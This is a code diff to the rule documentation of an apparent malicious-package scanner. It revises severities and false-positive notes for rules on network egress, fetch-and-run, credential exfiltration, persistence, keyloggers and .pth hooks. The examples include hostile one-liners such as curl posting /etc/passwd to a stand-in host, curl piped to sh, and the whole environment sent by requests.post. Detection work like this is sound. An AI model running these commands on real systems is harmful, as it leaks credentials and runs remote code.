@@ -104,9 +104,10 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'egress',
     severity: 'info',
     catches:
-      'A URL or IP address constant that code uses (not in comments, docstrings, messages, comparisons or unused metadata such as __url__), when no network call already reports it. Medium for webhooks, paste sites, tunnels, IP-lookup services, IP literals and throwaway TLDs; low for an IP literal written in code the user calls and for a throwaway-TLD URL outside install or start-up code (URL parsers test emoji .ws domains).',
+      'A URL or IP address constant that code uses (not in comments, docstrings, messages, comparisons or unused metadata such as __url__), when no network call already reports it. Medium for webhooks, paste sites, tunnels, IP-lookup services, IP literals and throwaway TLDs; low for an IP literal written in code the user calls and for a throwaway-TLD URL outside install or start-up code (URL parsers test emoji .ws domains). Network addresses (x.y.0.0, a netmask table) and reserved, private and multicast blocks are not endpoints.',
     example: 'WEBHOOK = "https://discord.example/api/webhooks/123456/abc"',
-    falsePositives: 'Default API base URLs of SDKs (info).',
+    falsePositives:
+      "Default API base URLs of SDKs (info). Documentation addresses (192.0.2.0/24) in test tables evaluated on import (OpenStack's tests): medium, because they count as IP literals like any other.",
   },
   // secrets
   {
@@ -156,9 +157,9 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'medium',
     catches:
-      "A spawned command that uses curl, wget, nc, socat, ssh, scp, nslookup, PowerShell web cmdlets, bitsadmin, certutil -urlcache, git push or pip download. High when the command sends the user's identity through shell substitutions ($(whoami), `hostname`), or runs PowerShell with a hidden window and the execution policy bypassed (parameters read as PowerShell reads them, abbreviated or with /). pip download alone, when called, is low: a package tool's own work (virtualenv seeding wheels).",
+      "A spawned command that uses curl, wget, nc, socat, ssh, scp, nslookup, PowerShell web cmdlets, bitsadmin, certutil -urlcache, git push or pip download. High when the command sends the user's identity through shell substitutions ($(whoami), `hostname`), or runs PowerShell with a hidden window and the execution policy bypassed (parameters read as PowerShell reads them, abbreviated or with /). Like a network call made in-process: low when the user's call runs it (git push, ssh, wget in a release or cluster tool), medium when its destination is one exfiltration favours (an IP literal, a paste site, a tunnel), raised one level on import and two at install or start-up.",
     example: 'os.system("curl -d @/etc/passwd https://x.example")',
-    falsePositives: 'Build scripts that download toolchains.',
+    falsePositives: 'Build scripts that download toolchains at install time.',
   },
   {
     id: 'silent-process',
@@ -206,7 +207,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response (also exec handed to a thread, pool or map: Thread(target=exec, args=(code,))), a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process), or an executable or script (.exe, .ps1, .sh, .py, ...) written by urlretrieve or by a function that fetched its bytes, then started; or, whatever its name, the very path a downloading function wrote (`open(file_path, "wb")` then `subprocess.run([file_path])`).',
+      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response (also exec handed to a thread, pool or map: Thread(target=exec, args=(code,))), a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process or Invoke-Expression), or an executable or script (.exe, .ps1, .sh, .py, ...) written by urlretrieve or by a function that fetched its bytes, then started; or, whatever its name, the very path a downloading function wrote (`open(file_path, "wb")` then `subprocess.run([file_path])`).',
     example: 'os.system("curl -s https://x.example/i.sh | sh")',
     falsePositives:
       'Installers of developer tools (rare in libraries); services that generate code for their users (exec of a response when called is medium).',
@@ -324,7 +325,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'dynamic-code',
     severity: 'low',
     catches:
-      '__import__("socket") or importlib.import_module("base64") of a sensitive module by a constant string, which hides the import.',
+      '__import__("socket") or importlib.import_module("base64") of a sensitive module by a constant string. Raised on import when the name is assembled at run time (which hides it); a name written out in the call stays low.',
     example: '__import__("os").system(cmd)',
     falsePositives: 'Compatibility shims.',
   },
@@ -368,7 +369,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
       "A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets; machine identity such as host name, user name, MAC address; clipboard, screenshots; a parameter named for a wallet's private key or recovery phrase) to a network sink, through assignments, containers, formatting, encoders and the file's own functions. The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs; any source sent by code that runs by itself (install, start-up, import) is at least high, the shape of a dependency-confusion callback.",
     example: 'requests.post(URL, json=dict(os.environ))',
     falsePositives:
-      'Cloud SDKs that send a credential to their own service when the user calls them (reported low or medium, not high). The environment filtered by a positive condition on at most three named prefixes or names of four characters or more, none of them a secret (`if k.startswith("KERNEL_")`, jupyter-server\'s gateway), counts as variables selected by name, not the whole environment; a negated filter, many short prefixes, or a list of secret names does not.',
+      "Cloud SDKs and API clients that send a credential to their own service when the user calls them: low for a named environment variable or the machine's identity (platform name in a download URL) sent to a hard-coded host of no shady kind; medium for credential files. Arguments the API uses locally are not sinks (where urlretrieve saves, requests' cert and verify, paramiko's key_filename and pkey, a host passed whole). The environment filtered by a positive condition on at most three named prefixes or names of four characters or more, none of them a secret (`if k.startswith(\"KERNEL_\")`, jupyter-server's gateway), counts as variables selected by name, not the whole environment; a negated filter, many short prefixes, or a list of secret names does not.",
   },
   {
     id: 'sensitive-file-access',
@@ -386,10 +387,10 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'data-flow',
     severity: 'medium',
     catches:
-      'Code that refers to a place that runs programs at log-in or boot: Windows Run keys and Startup folder, cron, systemd units, launch agents, scheduled tasks, shell start-up files. High in code that runs at install, start-up or import (shell start-up files: at install or start-up), and in a function that also downloads or writes a program or script file (a shell start-up file only when the function adds a command line to it that is no environment set-up and either the function downloads or the line reaches the network, launches a payload or runs in the background: tool installers add PATH and completion lines); a name in a table of names, or a shell start-up file edited only when called, is low.',
+      'Code that refers to a place that runs programs at log-in or boot: Windows Run keys and Startup folder, cron, systemd units, launch agents, scheduled tasks, shell start-up files. High in code that runs at install, start-up or import (shell start-up files: at install or start-up), and in a function that also downloads or writes a program or script file (a shell start-up file only when the function adds a command line to it that is no environment set-up and either the function downloads or the line reaches the network, launches a payload or runs in the background: tool installers add PATH and completion lines); a name in a table of names is low, and so are cron, systemd units and shell start-up files named by code the user calls (not an @reboot job: Windows Run keys, the Startup folder, launch agents and scheduled tasks stay medium).',
     example: 'winreg.SetValueEx(key, "upd", 0, REG_SZ, path)  # Software\\Microsoft\\Windows\\CurrentVersion\\Run',
     falsePositives:
-      'System administration tools; shell-completion installers a user runs (typer, userpath: low); lexers listing shell file names (pygments: low).',
+      'System administration tools writing cron or systemd units (boto, samba, sahara: low when called); shell-completion installers a user runs (typer, userpath: low); lexers listing shell file names (pygments: low).',
   },
   {
     id: 'defense-evasion',
@@ -510,7 +511,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'data-flow',
     severity: 'medium',
     catches:
-      'Keyboard hooks (pynput Listener, keyboard.on_press/hook, GetAsyncKeyState); high when the same file sends data over the network. With a persistence finding (medium or above) anywhere in the target, the target is high (a join in correlations.ts: the two halves of a spyware implant).',
+      'Keyboard hooks (pynput Listener, keyboard.on_press/hook, GetAsyncKeyState); high when the same file sends data over the network. With a persistence finding anywhere in the target, the target is high (a join in correlations.ts: the two halves of a spyware implant).',
     example: 'pynput.keyboard.Listener(on_press=log).start()',
     falsePositives: 'Hotkey and automation libraries.',
   },
@@ -531,7 +532,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'install-hook',
     severity: 'low',
     catches:
-      'A .pth file with lines starting with "import", which site.py executes at every interpreter start. High when that code does anything beyond importing (network, exec, decoding), medium when the file is large.',
+      'A .pth file with lines starting with "import", which site.py executes at every interpreter start. High when that code does anything beyond importing (network, exec, decoding), medium when the file is large (over 1 KiB of lines that are not setuptools\' namespace-package template, whose only variable parts are the package names).',
     example: 'import base64;exec(base64.b64decode("..."))',
     falsePositives: "setuptools' distutils-precedence.pth and editable-install hooks (reported low).",
   },
